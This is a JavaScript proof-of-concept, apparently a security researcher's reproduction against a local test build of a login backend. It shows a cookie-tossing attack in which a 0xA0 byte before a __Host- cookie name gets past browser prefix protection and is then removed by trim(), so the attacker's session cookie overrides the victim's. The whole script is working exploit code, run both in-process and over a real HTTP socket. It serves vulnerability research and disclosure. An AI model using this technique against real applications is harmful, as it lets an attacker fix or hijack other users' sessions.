// A sibling subdomain gets round the __Host- prefix: byte 0xA0 before the name is no prefix for browsers, and JS trim() drops it.
import http from "node:http";
import { createBackend, nodeHandler } from "/tmp/fresh/p/pkg/dist/server.js";
import { createTestSite } from "/tmp/fresh/p/pkg/testing.js";
const site = createTestSite({ users: [
  { username: "victim", password: "pw-victim-1" }, { username: "mallory", password: "pw-mallory-1" } ] });
const backend = createBackend({ site: site.site, fetch: site.fetch, secret: "x".repeat(40) });
const O = "https://app.example.com";
const login = async (username, password) => {
  const r = await backend.handle(new Request(O + "/api/presskey/login", { method: "POST", headers: { origin: O, "content-type": "application/json" }, body: JSON.stringify({ username, password }) }));
  console.log(username, r.status, r.status !== 200 ? await r.text() : "");
  return r.headers.getSetCookie()[0].split(";")[0];
};
const mallory = await login("mallory", "pw-mallory-1"), victim = await login("victim", "pw-victim-1");
const who = async (cookie) => (await (await backend.handle(new Request(O + "/api/presskey/session", { headers: { cookie } }))).json());
console.log("victim alone:", (await who(victim)).user?.username);
console.log("with tossed \\xA0__Host-… first:", (await who(`\xa0${mallory}; ${victim}`)).user?.username);
console.log("nobody + tossed:", (await who(`\xa0${mallory}`)).user?.username);
// the same over a real socket (node:http + nodeHandler)
const server = http.createServer(nodeHandler(backend)).listen(0, "127.0.0.1", () => {
  const req = http.get({ port: server.address().port, host: "127.0.0.1", path: "/api/presskey/session", headers: { host: "app.example.com", cookie: Buffer.from(`\xa0${mallory}; ${victim}`, "latin1").toString("latin1") } }, async (res) => {
    let t = ""; for await (const c of res) t += c; console.log("node:", t.slice(0, 160)); server.close();
  });
});
